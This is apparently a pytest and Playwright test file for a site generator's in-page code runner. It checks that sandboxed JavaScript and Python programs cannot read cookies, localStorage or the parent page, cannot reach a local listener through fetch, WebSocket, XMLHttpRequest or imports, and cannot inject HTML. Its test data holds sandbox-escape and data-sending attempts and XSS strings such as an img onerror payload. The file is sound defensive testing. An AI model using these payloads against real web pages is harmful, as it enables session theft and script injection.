"""What a program that is run in the page cannot do: reach the page, open a connection, leave its frame."""

import re
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote

import pytest
from firefox import Firefox
from playwright.sync_api import Browser, Page, expect

Builder = Callable[..., Path]
PATIENCE = 120_000

# What a program tries, by name: it is reached where the promise is kept. LEAK is an address of a server that listens.
JAVASCRIPT = {
    "the page": "parent.document.title",
    "the page above": "top.document.title",
    "a document": "document.title",
    "what it keeps": "localStorage.getItem('primers-theme')",
    "cookies": "document.cookie",
    "databases": "answer(indexedDB.open('x'), 'success')",
    "caches": "caches.open('x').then((it) => it.add('LEAK'))",
    "fetch": "fetch('LEAK')",
    "fetch, silently": "fetch('LEAK', { mode: 'no-cors', keepalive: true })",
    "XMLHttpRequest": "request()",
    "WebSocket": "answer(new WebSocket('LEAK'.replace('http', 'ws')), 'open')",
    "EventSource": "answer(new EventSource('LEAK'), 'open')",
    "scripts": "importScripts('LEAK')",
    "modules": "import('LEAK')",
    "workers": "answer(new Worker('LEAK'), 'message')",
    "workers of its own": "answer(new Worker(URL.createObjectURL(new Blob([inner]))), 'message')",
    "peers": "new RTCPeerConnection()",
    "windows": "open('LEAK')",
    "code": "eval('1')",
}
TRYING = """const answer = (it, good) => new Promise((resolve, reject) => {
  it.addEventListener(good, resolve);
  it.addEventListener("error", reject);
});
const request = () => {
  const it = new XMLHttpRequest();
  it.open("GET", "LEAK", false);
  it.send();
};
const inner = "fetch('LEAK').then(() => postMessage(1), () => { throw 1 })";
const tries = { ALL };
for (const [name, act] of Object.entries(tries)) {
  const late = new Promise((_, reject) => setTimeout(reject, 500));
  try {
    await Promise.race([(async () => act())(), late]);
    console.log(`reached ${name}`);
  } catch {
    console.log(`closed ${name}`);
  }
}
new BroadcastChannel("primers").postMessage("broadcast");
try { location.href = "LEAK"; } catch { /* as it should be */ }
console.log("<img src=x onerror='window.reached=1'>");
for (const kind of ["out", "typed", "html", "ready"]) postMessage([kind, "<img src=x onerror='window.reached=1'>"]);
postMessage({ primersHeight: 1 });
postMessage(null);
"""
PYTHON = {
    "the page": "js.parent.document",
    "a document": "js.document",
    "what it keeps": "js.localStorage",
    "fetch": "run_sync(js.fetch('LEAK'))",
    "pyfetch": "run_sync(pyfetch('LEAK'))",
    "XMLHttpRequest": "request()",
    "urlopen": "urllib.request.urlopen('LEAK')",
    "scripts": "js.importScripts('LEAK')",
    "code": "js.eval('1')",
    "functions": "js.Function.new('return 1')()",
    "packages": "run_sync(pyodide_js.loadPackage('LEAK'))",
}
TRYING_PYTHON = """import time
import urllib.request

import js
import pyodide_js
from pyodide.ffi import run_sync
from pyodide.http import pyfetch


def request():
    it = js.XMLHttpRequest.new()
    it.open("GET", "LEAK", False)
    it.send()


tries = { ALL }
for name, act in tries.items():
    try:
        act()
        print("reached", name)
    except Exception:
        print("closed", name)
for kind in (js.WebSocket, js.EventSource, js.Worker):
    try:
        it = kind.new("LEAK".replace("http", "ws" if kind is js.WebSocket else "http"))
    except Exception:
        pass
time.sleep(0.5)
print("<img src=x onerror='window.reached=1'>")
"""
PAGE = """# 程序

```python run
print("python")
```

```js run
console.log("javascript", await 1);
```
"""
WATCHED = """() => {
  localStorage.setItem('primers-theme', 'dark');
  document.cookie = 'secret=1';
  window.heard = [];
  addEventListener('message', (event) => heard.push(event.data));
  new BroadcastChannel('primers').onmessage = (event) => heard.push(event.data);
}"""
IN_FIREFOX = """const [language, program] = arguments;
const figure = [...document.querySelectorAll('figure.primers-code')].find((one) => one.textContent.includes(language));
figure.querySelector('.run-edit').click();
figure.querySelector('.run-editor').value = program;
figure.querySelector('.run-start').click();"""
FRAMED = """(sandboxed) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  if (sandboxed) frame.sandbox = 'allow-scripts';
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = () => resolve(true);
  const worker = 'onmessage = () => postMessage(["ready"])';
  frame.onload = () => {
    frame.contentWindow.postMessage({ worker, files: {} }, '*', [port2]);
    if (!sandboxed) setTimeout(() => resolve(false), 2000);
  };
  frame.src = '../../run/frame.html';
  document.body.append(frame);
})"""


class Listener:
    """A server that notes whatever reaches it."""

    def __init__(self) -> None:
        heard = self.heard = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}/leak"
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    one = Listener()
    yield one
    one.server.shutdown()
    one.server.server_close()


@pytest.fixture(scope="module")
def lesson(built: Builder, pyodide: Path) -> Path:
    """A site with a program of each language."""
    config = f'[site]\nrun = true\npyodide = "{pyodide}"\n\n[run]\nlanguages = ["python", "javascript"]\n'
    return built({"primers.toml": config, "content/zh/1.章/a.md": PAGE}, "--no-run")


@pytest.fixture
def page(chromium: Browser, lesson: Path, serve: Callable[[Path], str]) -> Iterator[Page]:
    """The page on a server; its console is not looked at, since it tells of what was forbidden."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(f"{serve(lesson)}/zh/章/a.html")
    yield page
    context.close()


def _program(language: str, address: str) -> str:
    text, tries, opening = (
        (TRYING, JAVASCRIPT, "() => ") if language == "javascript" else (TRYING_PYTHON, PYTHON, "lambda: ")
    )
    listed = ", ".join(f'"{name}": {opening}{act}' for name, act in tries.items())
    return text.replace("ALL", listed).replace("LEAK", address)


@pytest.mark.parametrize(("language", "tries"), [("javascript", JAVASCRIPT), ("python", PYTHON)])
def test_a_hostile_program_reaches_nothing(page: Page, listener: Listener, language: str, tries: dict[str, str]):
    page.evaluate(WATCHED)
    address = page.url
    figure = page.locator("figure.primers-code", has_text=language)
    figure.get_by_role("button", name="修改").click()
    figure.get_by_role("textbox", name="程序").fill(_program(language, listener.address))
    figure.get_by_role("button", name="运行").click()
    output = figure.locator(".run-output")
    expect(output).to_contain_text("<img", timeout=PATIENCE)
    said = re.findall(r"^(reached|closed) (.*)$", output.inner_text(), re.MULTILINE)
    assert said == [("closed", name) for name in tries]
    assert listener.heard == []
    seen = "[window.reached ?? null, heard.length, localStorage.getItem('primers-theme'), document.cookie]"
    assert page.evaluate(seen) == [None, 0, "dark", "secret=1"]
    assert page.locator("img").count() == 0
    assert page.url == address


@pytest.mark.parametrize(("language", "tries"), [("javascript", JAVASCRIPT), ("python", PYTHON)])
def test_nor_does_it_in_firefox(
    firefox: Firefox,
    lesson: Path,
    serve: Callable[[Path], str],
    listener: Listener,
    language: str,
    tries: dict[str, str],
):
    address = f"{serve(lesson)}/zh/{quote('章')}/a.html"
    firefox.open(address)
    firefox.script(f"({WATCHED})()")
    firefox.script(IN_FIREFOX, language, _program(language, listener.address))
    output = firefox.until("return document.querySelector('.run-output')?.textContent.match(/[^]*<img.*/)?.[0]")
    assert re.findall(r"^(reached|closed) (.*)$", output, re.MULTILINE) == [("closed", name) for name in tries]
    assert listener.heard == []
    seen = "return [heard.length, localStorage.getItem('primers-theme'), document.cookie]"
    assert firefox.script(seen) == [0, "dark", "secret=1"]
    assert firefox.script("return [document.images.length, location.href]") == [0, address]
    firefox.script(f"({FRAMED})(false).then((ran) => {{ window.ran = ran; }})")
    firefox.until("return window.ran === false")
    firefox.script("localStorage.clear()")


SHOUTING = """const it = new BroadcastChannel("left");
setInterval(() => it.postMessage("something"), 1);
setTimeout(() => postMessage(["end", "0"]), 50);
"""
LISTENING = """let heard = "nothing";
globalThis.left ??= "no more";
new BroadcastChannel("left").onmessage = ({ data }) => { heard = data; };
setTimeout(() => console.log(`${heard}, ${left}`), 300);
"""


def test_a_program_finds_nothing_of_the_one_before_it_in_its_frame(page: Page):
    """A frame whose program came to its end serves the next: nothing runs on in it, whatever a program says."""
    figure = page.locator("figure.primers-code", has_text="javascript")
    figure.get_by_role("button", name="修改").click()
    for text in (SHOUTING, LISTENING):
        figure.get_by_role("textbox", name="程序").fill(text)
        figure.get_by_role("button", name="运行").click()
        expect(figure.locator(".run-status")).to_have_text("运行结束。", timeout=PATIENCE)
        page.evaluate("window.used = [...(window.used ?? []), document.querySelector('iframe')]")
    assert figure.locator(".run-output").inner_text() == "nothing, no more\n"
    assert page.evaluate("used[0] !== null && used[0] === used[1]")


def test_the_frame_runs_nothing_without_its_sandbox(page: Page):
    assert page.evaluate(FRAMED, True)
    assert not page.evaluate(FRAMED, False)


def test_what_is_known_of_a_program_ends_no_element(built: Builder, tab: Page):
    """What a page writes stands in the data of its program, and is no HTML there."""
    evil = "</script><img src=x onerror=alert(1)><!--"
    lesson = f'# A\n\n```js {{stdin="{evil}"}}\nconsole.log(1)\n```\n\nOutput:\n\n```text\n{evil}\n```\n'
    config = '[site]\nrun = true\n[run]\nlanguages = ["javascript"]\n'
    site = built({"primers.toml": config, "content/en/1.x/a.md": lesson}, "--no-run")
    tab.goto((site / "en/x/a.html").as_uri())
    assert tab.locator("img").count() == 0
    figure = tab.locator("figure.primers-code")
    figure.get_by_role("button", name="Run").click()
    expect(figure.locator(".run-verdict del")).to_have_text(evil)
    assert tab.locator("img").count() == 0
